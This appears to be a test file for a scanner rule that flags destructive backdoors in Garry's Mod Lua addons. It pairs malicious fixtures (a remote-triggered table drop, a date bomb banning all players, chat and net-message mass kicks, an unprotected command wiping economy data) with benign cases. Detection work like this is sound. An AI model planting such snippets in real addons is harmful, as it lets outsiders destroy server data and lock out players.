// Valid and invalid cases of the `destructive_action` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './destructive_action.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('destructive_action', () => {
  it('remote order drops tables', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'http.Fetch("https://a.invalid/cmd", function(b) if b == "purge" then sql.Query("DROP TABLE darkrp_player") end end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it("every player banned or kicked on any player's word", () => {
    for (const code of [
      // a chat word bans everyone else
      'hook.Add("PlayerSay", "v", function(ply, txt)\n if txt == "!rtv_force" then for _, p in ipairs(player.GetAll()) do if p ~= ply then p:Ban(0, true) end end return "" end\nend)',
      // a date bomb in a spawn hook
      'hook.Add("PlayerInitialSpawn", "x", function(ply)\n if os.time() > 1798761600 then for _, p in pairs(player.GetAll()) do p:Ban(0, true) end end\nend)',
      // a net message kicks everyone, walked by index
      'util.AddNetworkString("k")\nnet.Receive("k", function(l, ply)\n local all = player.GetAll()\n for i = 1, #all do all[i]:Kick("bye") end\nend)',
      // the newer iterator
      'hook.Add("PlayerSay", "v", function(ply, txt)\n if txt == "!bye" then for _, p in player.Iterator() do p:Kick("bye") end end\nend)',
    ]) {
      const findings = check(rule, { 'lua/autorun/server/sv_x.lua': code });
      expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    }
  });
  it('every player kicked by a restart timer, or by an admin', () => {
    for (const code of [
      'timer.Create("restart", 3600, 1, function()\n for _, p in ipairs(player.GetAll()) do p:Kick("Server restarting") end\n RunConsoleCommand("changelevel", game.GetMap())\nend)',
      'hook.Add("PlayerSay", "k", function(ply, txt)\n if txt ~= "!kickall" or not ply:IsSuperAdmin() then return end\n for _, p in ipairs(player.GetAll()) do if p ~= ply then p:Kick("Cleared by an admin") end end\nend)',
      // one player kicked from chat (a vote result, say) is not everyone
      'hook.Add("PlayerSay", "k", function(ply, txt)\n if txt == "!afk" then ply:Kick("AFK") end\nend)',
    ]) {
      const findings = check(rule, { 'lua/autorun/server/sv_x.lua': code });
      expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
    }
  });
  it('own log rotation', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'sql.Query("DELETE FROM mylogs WHERE time < 5")',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a console command any player can run that drops the economy', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'concommand.Add("eco_fix_db", function(ply, cmd, args)\n sql.Query("DROP TABLE darkrp_player")\n for _, f in ipairs(file.Find("darkrp/*", "DATA")) do file.Delete("darkrp/" .. f) end\nend)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it("a player's own cache cleared by a client command, a row deleted, the server console's reset", () => {
    for (const code of [
      'if ( !CLIENT_DLL ) then return end\nconcommand.Add("cache_clear", function() sql.Query("DELETE FROM cookies") for _, f in ipairs(file.Find("mycache/*", "DATA")) do file.Delete("mycache/" .. f) end end)',
      'concommand.Add("forget_me", function(ply) sql.Query("DELETE FROM playtime WHERE sid = " .. sql.SQLStr(ply:SteamID())) end)',
      'concommand.Add("eco_reset", function(ply) if IsValid(ply) then return end sql.Query("DROP TABLE eco_data") end)',
    ]) {
      const findings = check(rule, { 'lua/autorun/sh_x.lua': code });
      expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
    }
  });
});
